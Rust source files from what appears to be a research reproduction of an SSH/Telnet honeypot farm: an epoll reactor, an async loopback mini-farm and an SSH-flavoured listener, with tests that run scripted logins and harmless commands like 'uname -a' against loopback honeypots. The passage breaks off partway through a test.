pub fn mirror_addr(id: u16) -> Ipv4Addr {
    let o = node_ip(id).octets();
    Ipv4Addr::new(127, o[1], o[2], o[3])
}

struct ListenerEntry {
    sock: TcpListener,
    honeypot: u16,
    protocol: Protocol,
}

struct Conn {
    sock: TcpStream,
    peer_ip: Ip4,
    gen: u32,
    sess: SessionConn,
    outbuf: Vec<u8>,
    out_pos: usize,
    deadline: Instant,
    draining: bool,
    interest: u32,
}

/// A running farm. Shut it down to obtain the [`FarmOutput`].
pub struct LiveFarm {
    nodes: Vec<NodeAddrs>,
    stats: FarmStats,
    stop: Arc<AtomicBool>,
    reactor: Option<std::thread::JoinHandle<()>>,
    collector: Option<std::thread::JoinHandle<(Dataset, Vec<SessionRecord>, u64)>>,
}

impl LiveFarm {
    /// Bind every node's listeners and start the reactor + collector
    /// threads.
    pub fn start(config: FarmConfig) -> std::io::Result<LiveFarm> {
        let stats = FarmStats::new();
        let stop = Arc::new(AtomicBool::new(false));
        let mut listeners = Vec::with_capacity(config.nodes as usize * 2);
        let mut nodes = Vec::with_capacity(config.nodes as usize);
        for id in 0..config.nodes {
            let ip = mirror_addr(id);
            let ssh = TcpListener::bind(SocketAddrV4::new(ip, config.ssh_port))?;
            let telnet = TcpListener::bind(SocketAddrV4::new(ip, config.telnet_port))?;
            ssh.set_nonblocking(true)?;
            telnet.set_nonblocking(true)?;
            nodes.push(NodeAddrs {
                id,
                ssh: ssh.local_addr()?,
                telnet: telnet.local_addr()?,
            });
            listeners.push(ListenerEntry {
                sock: ssh,
                honeypot: id,
                protocol: Protocol::Ssh,
            });
            listeners.push(ListenerEntry {
                sock: telnet,
                honeypot: id,
                protocol: Protocol::Telnet,
            });
        }

        let (tx, rx) = std::sync::mpsc::sync_channel::<SessionRecord>(config.channel_capacity);

        let collector = {
            let stats = stats.clone();
            let keep = config.keep_records;
            std::thread::Builder::new()
                .name("hf-wire-collector".into())
                .spawn(move || run_collector(rx, stats, keep))?
        };
        let reactor = {
            let stats = stats.clone();
            let stop = Arc::clone(&stop);
            let config = config.clone();
            std::thread::Builder::new()
                .name("hf-wire-reactor".into())
                .spawn(move || {
                    Reactor::new(listeners, config, stats, stop, tx).run();
                })?
        };

        Ok(LiveFarm {
            nodes,
            stats,
            stop,
            reactor: Some(reactor),
            collector: Some(collector),
        })
    }

    /// Bound addresses, by node.
    pub fn nodes(&self) -> &[NodeAddrs] {
        &self.nodes
    }

    /// Live counters (shared handle).
    pub fn stats(&self) -> FarmStats {
        self.stats.clone()
    }

    /// Graceful drain: stop accepting, finish every open session into the
    /// collector, and return the completed output. Zero record loss — see
    /// the module docs for the ordering argument.
    pub fn shutdown(mut self) -> FarmOutput {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(h) = self.reactor.take() {
            h.join().expect("wire reactor panicked");
        }
        let (dataset, records, n_clients) = self
            .collector
            .take()
            .expect("shutdown called once")
            .join()
            .expect("wire collector panicked");
        FarmOutput {
            dataset,
            records,
            n_clients,
            stats: self.stats.clone(),
        }
    }
}

impl Drop for LiveFarm {
    fn drop(&mut self) {
        // A dropped (not shut down) farm must not leave threads spinning.
        self.stop.store(true, Ordering::SeqCst);
        if let Some(h) = self.reactor.take() {
            let _ = h.join();
        }
        if let Some(h) = self.collector.take() {
            let _ = h.join();
        }
    }
}

fn run_collector(
    rx: Receiver<SessionRecord>,
    stats: FarmStats,
    keep_records: bool,
) -> (Dataset, Vec<SessionRecord>, u64) {
    let world = World::build(0, &WorldConfig::tiny());
    let mut collector = Collector::new(&world, FarmPlan::paper());
    let mut clients: HashSet<Ip4> = HashSet::new();
    let mut records = Vec::new();
    while let Ok(rec) = rx.recv() {
        collector.ingest(&rec);
        clients.insert(rec.client_ip);
        stats.on_ingest();
        if keep_records {
            records.push(rec);
        }
    }
    hf_obs::flush();
    (collector.finish(), records, clients.len() as u64)
}

struct Reactor {
    ep: Epoll,
    listeners: Vec<ListenerEntry>,
    config: FarmConfig,
    configs: HashMap<u16, HoneypotConfig>,
    conns: Vec<Option<Conn>>,
    free: Vec<usize>,
    next_gen: u32,
    per_ip: HashMap<Ip4, u32>,
    stats: FarmStats,
    stop: Arc<AtomicBool>,
    tx: SyncSender<SessionRecord>,
}

impl Reactor {
    fn new(
        listeners: Vec<ListenerEntry>,
        config: FarmConfig,
        stats: FarmStats,
        stop: Arc<AtomicBool>,
        tx: SyncSender<SessionRecord>,
    ) -> Reactor {
        Reactor {
            ep: Epoll::new().expect("epoll_create1"),
            listeners,
            config,
            configs: HashMap::new(),
            conns: Vec::new(),
            free: Vec::new(),
            next_gen: 0,
            per_ip: HashMap::new(),
            stats,
            stop,
            tx,
        }
    }

    /// Per-node honeypot config, built once per node on first accept.
    fn node_config(&mut self, honeypot: u16) -> HoneypotConfig {
        let cfg = &self.config;
        self.configs
            .entry(honeypot)
            .or_insert_with(|| {
                let profile = if cfg.uniform_profile {
                    SystemProfile::default()
                } else {
                    SystemProfile::for_node(honeypot as u32)
                };
                let mut c = HoneypotConfig::paper(profile);
                if let Some(t) = cfg.preauth_timeout_secs {
                    c.preauth_timeout_secs = t;
                }
                if let Some(t) = cfg.idle_timeout_secs {
                    c.idle_timeout_secs = t;
                }
                c
            })
            .clone()
    }

    fn run(mut self) {
        let _span = hf_obs::span!("wire.reactor");
        for (i, l) in self.listeners.iter().enumerate() {
            self.ep
                .add(l.sock.as_raw_fd(), epoll::IN, LISTENER_FLAG | i as u64)
                .expect("register listener");
        }
        let mut events = [epoll::Event::zeroed(); 256];
        loop {
            if self.stop.load(Ordering::SeqCst) {
                self.drain_all();
                break;
            }
            let n = self.ep.wait(&mut events, TICK_MS).unwrap_or(0);
            for ev in events.iter().take(n) {
                let token = ev.token();
                if token & LISTENER_FLAG != 0 {
                    self.accept_from((token & !LISTENER_FLAG) as usize);
                } else {
                    self.handle_conn_event(token, ev.readiness());
                }
            }
            self.sweep_deadlines();
        }
        hf_obs::flush();
    }

    fn accept_from(&mut self, idx: usize) {
        loop {
            let (sock, peer) = match self.listeners[idx].sock.accept() {
                Ok(pair) => pair,
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                // EMFILE and friends: stop accepting this wake; the
                // level-triggered listener re-reports next tick.
                Err(_) => break,
            };
            self.stats.on_accept();
            let peer_ip = match peer.ip() {
                std::net::IpAddr::V4(v4) => Ip4::from(v4),
                std::net::IpAddr::V6(v6) => v6
                    .to_ipv4_mapped()
                    .map(Ip4::from)
                    .unwrap_or(Ip4::new(0, 0, 0, 0)),
            };
            let open = self.per_ip.entry(peer_ip).or_insert(0);
            if *open >= self.config.per_ip_cap {
                // Documented policy: over-cap connections are closed at
                // accept and never get a session record.
                self.stats.on_reject_ip_cap();
                drop(sock);
                continue;
            }
            *open += 1;
            if sock.set_nonblocking(true).is_err() {
                // Can't drive this socket; treat as a rejection.
                *self.per_ip.get_mut(&peer_ip).expect("just inserted") -= 1;
                self.stats.on_reject_ip_cap();
                continue;
            }
            let _ = sock.set_nodelay(true);
            let honeypot = self.listeners[idx].honeypot;
            let protocol = self.listeners[idx].protocol;
            let config = self.node_config(honeypot);
            let (sess, greeting) = SessionConn::new(ConnParams {
                honeypot,
                protocol,
                config,
                timing: self.config.timing,
                stats: self.stats.clone(),
                peer_ip,
                peer_port: peer.port(),
                clock_base: self.config.clock_base,
            });
            self.stats.conn_opened();
            let deadline = Instant::now()
                + Duration::from_secs(sess.read_deadline_secs(self.config.wall_timeout_secs) as u64);
            let gen = self.next_gen;
            self.next_gen = self.next_gen.wrapping_add(1);
            let mut conn = Conn {
                sock,
                peer_ip,
                gen,
                sess,
                outbuf: greeting,
                out_pos: 0,
                deadline,
                draining: false,
                interest: epoll::IN | epoll::RDHUP,
            };
            flush_out(&mut conn);
            if conn.out_pos < conn.outbuf.len() {
                conn.interest |= epoll::OUT;
            }
            let slot = match self.free.pop() {
                Some(s) => s,
                None => {
                    self.conns.push(None);
                    self.conns.len() - 1
                }
            };
            let token = (slot as u64) | ((gen as u64) << 32);
            if self
                .ep
                .add(conn.sock.as_raw_fd(), conn.interest, token)
                .is_err()
            {
                // Registration failure is a rejection: close, account.
                self.stats.conn_closed();
                *self.per_ip.get_mut(&peer_ip).expect("tracked") -= 1;
                self.stats.on_reject_ip_cap();
                self.free.push(slot);
                continue;
            }
            self.conns[slot] = Some(conn);
        }
    }

    fn handle_conn_event(&mut self, token: u64, readiness: u32) {
        let slot = (token & 0xffff_ffff) as usize;
        let gen = (token >> 32) as u32;
        let Some(conn) = self.conns.get_mut(slot).and_then(Option::as_mut) else {
            return; // already closed this wake
        };
        if conn.gen != gen {
            return; // slot reused; stale event
        }
        if readiness & epoll::OUT != 0 {
            flush_out(conn);
            if conn.out_pos >= conn.outbuf.len() {
                if conn.draining {
                    self.close(slot);
                    return;
                }
                let conn = self.conns[slot].as_mut().expect("checked");
                conn.interest &= !epoll::OUT;
                let token = (slot as u64) | ((conn.gen as u64) << 32);
                let _ = self.ep.modify(conn.sock.as_raw_fd(), conn.interest, token);
            }
        }
        let Some(conn) = self.conns.get_mut(slot).and_then(Option::as_mut) else {
            return;
        };
        if conn.draining {
            // Draining connections only flush; errors/hangups just close.
            if readiness & (epoll::ERR | epoll::HUP) != 0 {
                self.close(slot);
            }
            return;
        }
        if readiness & (epoll::IN | epoll::RDHUP | epoll::HUP | epoll::ERR) != 0 {
            self.read_conn(slot);
        }
    }

    fn read_conn(&mut self, slot: usize) {
        let mut buf = [0u8; 4096];
        for _ in 0..READS_PER_WAKE {
            let conn = match self.conns.get_mut(slot).and_then(Option::as_mut) {
                Some(c) if !c.draining => c,
                _ => return,
            };
            match conn.sock.read(&mut buf) {
                Ok(0) => {
                    let rec = conn.sess.on_eof();
                    self.finish_conn(slot, rec);
                    return;
                }
                Ok(n) => {
                    let mut reply = Vec::new();
                    let finished = conn.sess.on_input(&buf[..n], &mut reply);
                    if !reply.is_empty() {
                        conn.outbuf.extend_from_slice(&reply);
                        flush_out(conn);
                    }
                    conn.deadline = Instant::now()
                        + Duration::from_secs(
                            conn.sess.read_deadline_secs(self.config.wall_timeout_secs) as u64,
                        );
                    if let Some(rec) = finished {
                        self.finish_conn(slot, rec);
                        return;
                    }
                    let conn = self.conns[slot].as_mut().expect("checked");
                    if conn.out_pos < conn.outbuf.len() && conn.interest & epoll::OUT == 0 {
                        conn.interest |= epoll::OUT;
                        let token = (slot as u64) | ((conn.gen as u64) << 32);
                        let _ = self.ep.modify(conn.sock.as_raw_fd(), conn.interest, token);
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(_) => {
                    self.stats.on_read_error();
                    let rec = conn.sess.on_eof();
                    self.finish_conn(slot, rec);
                    return;
                }
            }
        }
    }

    /// The session produced its record: ship it (blocking = backpressure),
    /// then either close now or linger to flush the final reply bytes.
    fn finish_conn(&mut self, slot: usize, rec: SessionRecord) {
        // Blocking send into the bounded channel — the reactor stalls here
        // when the collector is behind, which is the designed backpressure.
        let _ = self.tx.send(rec);
        let conn = self.conns[slot].as_mut().expect("finishing live conn");
        flush_out(conn);
        if conn.out_pos >= conn.outbuf.len() {
            self.close(slot);
            return;
        }
        conn.draining = true;
        conn.deadline = Instant::now() + Duration::from_secs(DRAIN_SECS);
        conn.interest = epoll::OUT;
        let token = (slot as u64) | ((conn.gen as u64) << 32);
        let _ = self.ep.modify(conn.sock.as_raw_fd(), conn.interest, token);
    }

    fn close(&mut self, slot: usize) {
        let conn = self.conns[slot].take().expect("closing live conn");
        let _ = self.ep.del(conn.sock.as_raw_fd());
        if let Some(n) = self.per_ip.get_mut(&conn.peer_ip) {
            *n = n.saturating_sub(1);
        }
        self.stats.conn_closed();
        self.free.push(slot);
    }

    fn sweep_deadlines(&mut self) {
        let now = Instant::now();
        for slot in 0..self.conns.len() {
            let Some(conn) = self.conns[slot].as_mut() else {
                continue;
            };
            if now < conn.deadline {
                continue;
            }
            if conn.draining {
                self.close(slot);
            } else {
                let rec = conn.sess.on_wall_timeout();
                self.finish_conn(slot, rec);
            }
        }
    }

    /// Shutdown drain: every live session yields its record before the
    /// channel sender drops.
    fn drain_all(&mut self) {
        let _span = hf_obs::span!("wire.drain");
        for l in self.listeners.drain(..) {
            let _ = self.ep.del(l.sock.as_raw_fd());
        }
        for slot in 0..self.conns.len() {
            let Some(conn) = self.conns[slot].as_mut() else {
                continue;
            };
            if !conn.draining {
                let rec = conn.sess.on_eof();
                let _ = self.tx.send(rec);
                flush_out(conn); // best-effort final bytes
            }
            self.close(slot);
        }
    }
}

/// Write as much of the pending output as the socket takes right now.
fn flush_out(conn: &mut Conn) {
    while conn.out_pos < conn.outbuf.len() {
        match conn.sock.write(&conn.outbuf[conn.out_pos..]) {
            Ok(0) => break,
            Ok(n) => conn.out_pos += n,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(_) => break, // WouldBlock or a dead peer; either way, later/never
        }
    }
    if conn.out_pos >= conn.outbuf.len() {
        conn.outbuf.clear();
        conn.out_pos = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::run_script;
    use hf_honeypot::EndReason;

    fn virtual_farm(nodes: u16) -> LiveFarm {
        LiveFarm::start(FarmConfig {
            nodes,
            timing: Timing::Virtual,
            uniform_profile: true,
            keep_records: true,
            ..FarmConfig::default()
        })
        .expect("farm starts")
    }

    #[test]
    fn mirror_addrs_follow_the_deployment_plan() {
        assert_eq!(mirror_addr(0), Ipv4Addr::new(127, 18, 0, 1));
        // node_ip keeps the same lower octets.
        assert_eq!(node_ip(0).octets()[1..], mirror_addr(0).octets()[1..]);
        assert_eq!(node_ip(220).octets()[1..], mirror_addr(220).octets()[1..]);
    }

    #[test]
    fn end_to_end_ssh_session_lands_in_dataset() {
        let farm = virtual_farm(2);
        let addr = farm.nodes()[1].ssh;
        let reply = run_script(
            addr,
            "@hfs client 203.0.113.50 40100\nUSER root\nPASS pw\nuname -a\nEXIT\n",
            Duration::from_secs(10),
        )
        .expect("session runs");
        let text = String::from_utf8_lossy(&reply);
        assert!(text.contains("AUTH-OK"), "{text}");
        let out = farm.shutdown();
        assert_eq!(out.records.len(), 1);
        let rec = &out.records[0];
        assert_eq!(rec.honeypot, 1);
        assert_eq!(rec.client_ip, Ip4::new(203, 0, 113, 50));
        assert_eq!(rec.ended_by, EndReason::ClientClose);
        assert_eq!(rec.commands.len(), 1);
        assert_eq!(out.dataset.len(), 1);
        assert_eq!(out.n_clients, 1);
        assert!(out.stats.accounting_balanced());
    }

    #[test]
    fn shutdown_with_no_traffic_is_clean_and_empty() {
        let farm = virtual_farm(1);
        let out = farm.shutdown();
        assert_eq!(out.dataset.len(), 0);
        assert_eq!(out.stats.accepted(), 0);
        assert!(out.stats.accounting_balanced());
    }

    #[test]
    fn snapshot_roundtrips_through_hfstore() {
        let farm = virtual_farm(1);
        let addr = farm.nodes()[0].ssh;
        run_script(
            addr,
            "@hfs start 4 100\nUSER root\nPASS pw\nEXIT\n",
            Duration::from_secs(10),
        )
        .expect("session runs");
        let out = farm.shutdown();
        let snap = out.to_snapshot();
        assert_eq!(snap.meta.days, 5, "max observed day + 1");
        let dir = std::env::temp_dir().join(format!("hf_wire_snap_{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("farm.hfstore");
        snap.write_file(&path).expect("snapshot writes");
        let loaded = Snapshot::read_file(&path).expect("snapshot loads");
        assert_eq!(loaded.sessions.len(), 1);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
