//! A loopback mini-farm: several live honeypots reporting to one collector —
//! the live-mode analogue of the simulated honeyfarm.

use std::net::SocketAddr;

use hf_farm::{Collector, Dataset, FarmPlan};
use hf_geo::{World, WorldConfig};
use hf_honeypot::{HoneypotConfig, SessionRecord};
use hf_shell::SystemProfile;
use hf_simclock::SimInstant;
use parking_lot::Mutex;
use tokio::sync::mpsc;

use crate::ssh_server::SshHoneypotServer;
use crate::telnet_server::TelnetHoneypotServer;

/// Configuration of the live mini-farm.
#[derive(Debug, Clone)]
pub struct LiveFarmConfig {
    /// Number of honeypot nodes (each gets one SSH + one Telnet listener).
    pub nodes: u16,
    /// Override timeouts (seconds) for fast tests; `None` keeps the paper's.
    pub preauth_timeout_secs: Option<u32>,
    /// Idle timeout override.
    pub idle_timeout_secs: Option<u32>,
}

impl Default for LiveFarmConfig {
    fn default() -> Self {
        LiveFarmConfig {
            nodes: 3,
            preauth_timeout_secs: None,
            idle_timeout_secs: None,
        }
    }
}

/// Addresses of one live node.
#[derive(Debug, Clone, Copy)]
pub struct NodeAddrs {
    /// Node id.
    pub id: u16,
    /// SSH listener address.
    pub ssh: SocketAddr,
    /// Telnet listener address.
    pub telnet: SocketAddr,
}

/// The running mini-farm.
pub struct LiveFarm {
    /// Per-node listener addresses.
    pub nodes: Vec<NodeAddrs>,
    servers_ssh: Vec<SshHoneypotServer>,
    servers_telnet: Vec<TelnetHoneypotServer>,
    records: std::sync::Arc<Mutex<Vec<SessionRecord>>>,
    pump: tokio::task::JoinHandle<()>,
}

impl LiveFarm {
    /// Start `config.nodes` honeypots on loopback ephemeral ports.
    pub async fn start(config: LiveFarmConfig) -> std::io::Result<LiveFarm> {
        let (tx, mut rx) = mpsc::unbounded_channel::<SessionRecord>();
        let records = std::sync::Arc::new(Mutex::new(Vec::new()));
        let records_pump = records.clone();
        let pump = tokio::spawn(async move {
            while let Some(rec) = rx.recv().await {
                records_pump.lock().push(rec);
            }
        });

        let mut nodes = Vec::new();
        let mut servers_ssh = Vec::new();
        let mut servers_telnet = Vec::new();
        for id in 0..config.nodes {
            let mut hp_config = HoneypotConfig::paper(SystemProfile::for_node(id as u32));
            if let Some(t) = config.preauth_timeout_secs {
                hp_config.preauth_timeout_secs = t;
            }
            if let Some(t) = config.idle_timeout_secs {
                hp_config.idle_timeout_secs = t;
            }
            let ssh = SshHoneypotServer::start(
                "127.0.0.1:0".parse().unwrap(),
                hp_config.clone(),
                id,
                SimInstant::EPOCH,
                tx.clone(),
            )
            .await?;
            let telnet = TelnetHoneypotServer::start(
                "127.0.0.1:0".parse().unwrap(),
                hp_config,
                id,
                SimInstant::EPOCH,
                tx.clone(),
            )
            .await?;
            nodes.push(NodeAddrs {
                id,
                ssh: ssh.local_addr,
                telnet: telnet.local_addr,
            });
            servers_ssh.push(ssh);
            servers_telnet.push(telnet);
        }
        Ok(LiveFarm {
            nodes,
            servers_ssh,
            servers_telnet,
            records,
            pump,
        })
    }

    /// Number of records collected so far.
    pub fn collected(&self) -> usize {
        self.records.lock().len()
    }

    /// Stop all listeners and return the collected records.
    pub fn shutdown(self) -> Vec<SessionRecord> {
        for s in self.servers_ssh {
            s.shutdown();
        }
        for s in self.servers_telnet {
            s.shutdown();
        }
        self.pump.abort();
        std::mem::take(&mut *self.records.lock())
    }

    /// Build an analysis-ready [`Dataset`] from collected records (live mode
    /// has no synthetic world; clients are unroutable loopback addresses, so
    /// geo fields stay unknown — exactly what a collector without a
    /// geolocation feed would produce).
    pub fn into_dataset(self) -> Dataset {
        let records = self.shutdown();
        let world = World::build(0, &WorldConfig::tiny());
        let mut collector = Collector::new(&world, FarmPlan::paper());
        for rec in &records {
            collector.ingest(rec);
        }
        collector.finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::{AttackClient, AttackScript};
    use hf_proto::Protocol;

    #[tokio::test]
    async fn mini_farm_collects_from_all_nodes() {
        let farm = LiveFarm::start(LiveFarmConfig::default()).await.unwrap();
        assert_eq!(farm.nodes.len(), 3);
        for node in farm.nodes.clone() {
            let s = AttackScript::intrusion(Protocol::Ssh, "1234", &["uname"]);
            AttackClient::run(node.ssh, &s).await.unwrap();
            let s = AttackScript::scan(Protocol::Telnet);
            AttackClient::run(node.telnet, &s).await.unwrap();
        }
        // Give the pump a moment to drain.
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        let records = farm.shutdown();
        assert_eq!(records.len(), 6, "3 intrusions + 3 scans");
        let intrusions = records.iter().filter(|r| r.login_succeeded()).count();
        assert_eq!(intrusions, 3);
        let hps: std::collections::BTreeSet<u16> = records.iter().map(|r| r.honeypot).collect();
        assert_eq!(hps.len(), 3, "records carry their node ids");
    }

    #[tokio::test]
    async fn live_records_feed_the_analysis_dataset() {
        let farm = LiveFarm::start(LiveFarmConfig::default()).await.unwrap();
        let node = farm.nodes[0];
        let s = AttackScript::intrusion(Protocol::Ssh, "abc", &["echo x > /tmp/f"]);
        AttackClient::run(node.ssh, &s).await.unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        let ds = farm.into_dataset();
        assert_eq!(ds.len(), 1);
        assert_eq!(ds.artifacts.len(), 1);
        let v = ds.sessions.view(0);
        assert!(v.login_succeeded());
        assert_eq!(v.hash_ids().len(), 1);
    }
}
