//! SSH-flavoured honeypot listener.
//!
//! Implements the part of SSH the paper's analyses actually use — the
//! RFC 4253 §4.2 plaintext identification-string exchange, which is where
//! Cowrie learns the client software version — and then switches to a
//! *documented plaintext framing* for authentication and command execution
//! (DESIGN.md substitution: the encrypted transport adds no analytical
//! surface, and this reproduction must never accept real attacker traffic
//! anyway).
//!
//! Framing after the identification exchange (one line per message, LF or
//! CRLF terminated):
//!
//! ```text
//! client: USER <name>
//! client: PASS <password>
//! server: AUTH-OK | AUTH-FAIL | AUTH-FAIL-CLOSE
//! client: <command line>          (after AUTH-OK; any line is a command)
//! server: <command output> …
//! server: ##                      (prompt marker ending each output)
//! client: EXIT                    (polite close)
//! ```

use std::net::SocketAddr;
use std::time::Duration;

use hf_geo::Ip4;
use hf_honeypot::{AuthResult, HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::ssh_ident::{server_ident, SshIdent, MAX_IDENT_LEN};
use hf_proto::Protocol;
use hf_shell::{RemoteFetcher, SyntheticFetcher};
use hf_simclock::SimInstant;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

/// A running SSH-flavoured honeypot listener.
pub struct SshHoneypotServer {
    /// Bound address.
    pub local_addr: SocketAddr,
    handle: tokio::task::JoinHandle<()>,
}

impl SshHoneypotServer {
    /// Bind and start serving.
    pub async fn start(
        addr: SocketAddr,
        config: HoneypotConfig,
        honeypot_id: u16,
        clock_base: SimInstant,
        sink: mpsc::UnboundedSender<SessionRecord>,
    ) -> std::io::Result<SshHoneypotServer> {
        let listener = TcpListener::bind(addr).await?;
        let local_addr = listener.local_addr()?;
        let handle = tokio::spawn(async move {
            loop {
                let Ok((stream, peer)) = listener.accept().await else {
                    break;
                };
                let config = config.clone();
                let sink = sink.clone();
                tokio::spawn(async move {
                    let rec = handle_conn(stream, peer, config, honeypot_id, clock_base).await;
                    let _ = sink.send(rec);
                });
            }
        });
        Ok(SshHoneypotServer { local_addr, handle })
    }

    /// Stop accepting connections.
    pub fn shutdown(self) {
        self.handle.abort();
    }
}

fn peer_ip(peer: SocketAddr) -> Ip4 {
    match peer.ip() {
        std::net::IpAddr::V4(v4) => Ip4::from(v4),
        std::net::IpAddr::V6(v6) => v6
            .to_ipv4_mapped()
            .map(Ip4::from)
            .unwrap_or(Ip4::new(0, 0, 0, 0)),
    }
}

async fn handle_conn(
    stream: TcpStream,
    peer: SocketAddr,
    config: HoneypotConfig,
    honeypot_id: u16,
    clock_base: SimInstant,
) -> SessionRecord {
    let started = std::time::Instant::now();
    let preauth = Duration::from_secs(config.preauth_timeout_secs as u64);
    let idle = Duration::from_secs(config.idle_timeout_secs as u64);
    let fetcher: Box<dyn RemoteFetcher> = Box::new(SyntheticFetcher);
    let mut driver = SessionDriver::accept(
        config,
        honeypot_id,
        Protocol::Ssh,
        peer_ip(peer),
        peer.port(),
        clock_base,
        fetcher,
    );

    let (read_half, mut write_half) = stream.into_split();
    let mut reader = BufReader::new(read_half).take(1 << 20);

    // 1. Identification exchange (RFC 4253 §4.2).
    if write_half
        .write_all(&server_ident().wire_bytes())
        .await
        .is_err()
    {
        driver.client_close();
        return driver.into_record();
    }
    let mut ident_line = String::new();
    match tokio::time::timeout(preauth, reader.read_line(&mut ident_line)).await {
        Ok(Ok(n)) if n > 0 && ident_line.len() <= MAX_IDENT_LEN => {
            if let Ok(ident) = SshIdent::parse(&ident_line) {
                driver.client_banner(&ident.render());
            }
            // Lines that fail to parse are recorded as nothing — like a
            // scanner poking the port without speaking SSH.
        }
        Ok(_) => {
            sync_clock(&mut driver, started);
            driver.client_close();
            return driver.into_record();
        }
        Err(_) => {
            sync_clock(&mut driver, started);
            driver.advance(preauth.as_secs() as u32 + 1);
            return driver.into_record();
        }
    }

    // 2. Plaintext auth + exec framing.
    let mut username: Option<String> = None;
    let mut line = String::new();
    let mut last_activity = std::time::Instant::now();
    loop {
        let limit = if driver.authenticated() { idle } else { preauth };
        let Some(remaining) = limit.checked_sub(last_activity.elapsed()) else {
            sync_clock(&mut driver, started);
            driver.advance(limit.as_secs() as u32 + 1);
            break;
        };
        line.clear();
        let read = tokio::time::timeout(remaining, reader.read_line(&mut line)).await;
        match read {
            Err(_) => {
                sync_clock(&mut driver, started);
                driver.advance(limit.as_secs() as u32 + 1);
                break;
            }
            Ok(Err(_)) | Ok(Ok(0)) => {
                sync_clock(&mut driver, started);
                driver.client_close();
                break;
            }
            Ok(Ok(_)) => {}
        }
        last_activity = std::time::Instant::now();
        let msg = line.trim_end_matches(['\r', '\n']).to_string();
        let think = think_secs(&driver, started);

        if !driver.authenticated() {
            if let Some(u) = msg.strip_prefix("USER ") {
                username = Some(u.to_string());
                continue;
            }
            if let Some(p) = msg.strip_prefix("PASS ") {
                let user = username.take().unwrap_or_default();
                match driver.offer_credentials(Credentials::new(&user, p), think) {
                    AuthResult::Accepted => {
                        let _ = write_half.write_all(b"AUTH-OK\n").await;
                    }
                    AuthResult::Rejected => {
                        let _ = write_half.write_all(b"AUTH-FAIL\n").await;
                    }
                    AuthResult::Disconnected => {
                        let _ = write_half.write_all(b"AUTH-FAIL-CLOSE\n").await;
                        break;
                    }
                }
                continue;
            }
            // Anything else pre-auth is ignored (matching SSH clients that
            // send KEX blobs we don't parse).
            continue;
        }

        if msg == "EXIT" {
            sync_clock(&mut driver, started);
            driver.client_close();
            break;
        }
        if let Some(output) = driver.run_command(&msg, think) {
            if write_half.write_all(output.as_bytes()).await.is_err()
                || write_half.write_all(b"##\n").await.is_err()
            {
                driver.client_close();
                break;
            }
        }
        if driver.finished() {
            break;
        }
    }
    driver.into_record()
}

fn sync_clock(driver: &mut SessionDriver, started: std::time::Instant) {
    let wall = started.elapsed().as_secs();
    let sim = driver.now().0;
    if wall > sim {
        let _ = driver.advance((wall - sim) as u32);
    }
}

fn think_secs(driver: &SessionDriver, started: std::time::Instant) -> u32 {
    started.elapsed().as_secs().saturating_sub(driver.now().0) as u32
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_shell::SystemProfile;
    use tokio::io::AsyncReadExt;

    async fn start_server() -> (SshHoneypotServer, mpsc::UnboundedReceiver<SessionRecord>) {
        let (tx, rx) = mpsc::unbounded_channel();
        let srv = SshHoneypotServer::start(
            "127.0.0.1:0".parse().unwrap(),
            HoneypotConfig::paper(SystemProfile::default()),
            3,
            SimInstant::EPOCH,
            tx,
        )
        .await
        .unwrap();
        (srv, rx)
    }

    async fn read_line(s: &mut TcpStream) -> String {
        let mut buf = [0u8; 512];
        let n = s.read(&mut buf).await.unwrap();
        String::from_utf8_lossy(&buf[..n]).to_string()
    }

    #[tokio::test]
    async fn ident_exchange_and_intrusion() {
        let (srv, mut rx) = start_server().await;
        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
        let banner = read_line(&mut s).await;
        assert!(banner.starts_with("SSH-2.0-OpenSSH"), "{banner}");
        s.write_all(b"SSH-2.0-Go\r\n").await.unwrap();
        s.write_all(b"USER root\nPASS 1234\n").await.unwrap();
        let reply = read_line(&mut s).await;
        assert!(reply.contains("AUTH-OK"), "{reply}");
        s.write_all(b"uname -a\n").await.unwrap();
        let out = read_line(&mut s).await;
        assert!(out.contains("Linux"), "{out}");
        s.write_all(b"EXIT\n").await.unwrap();
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.ssh_client_version.as_deref(), Some("SSH-2.0-Go"));
        assert!(rec.login_succeeded());
        assert_eq!(rec.commands.len(), 1);
        srv.shutdown();
    }

    #[tokio::test]
    async fn root_root_is_rejected() {
        let (srv, mut rx) = start_server().await;
        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
        let _ = read_line(&mut s).await;
        s.write_all(b"SSH-2.0-libssh_0.9.6\r\n").await.unwrap();
        s.write_all(b"USER root\nPASS root\n").await.unwrap();
        let reply = read_line(&mut s).await;
        assert!(reply.contains("AUTH-FAIL"), "{reply}");
        drop(s);
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.logins.len(), 1);
        assert!(!rec.login_succeeded());
        srv.shutdown();
    }

    #[tokio::test]
    async fn garbage_ident_still_yields_record() {
        let (srv, mut rx) = start_server().await;
        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
        let _ = read_line(&mut s).await;
        s.write_all(b"GET / HTTP/1.1\r\n").await.unwrap();
        drop(s);
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.ssh_client_version, None);
        assert!(rec.logins.is_empty());
        srv.shutdown();
    }

    #[tokio::test]
    async fn download_over_live_ssh_records_hash() {
        let (srv, mut rx) = start_server().await;
        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
        let _ = read_line(&mut s).await;
        s.write_all(b"SSH-2.0-Go\r\n").await.unwrap();
        s.write_all(b"USER root\nPASS abc\n").await.unwrap();
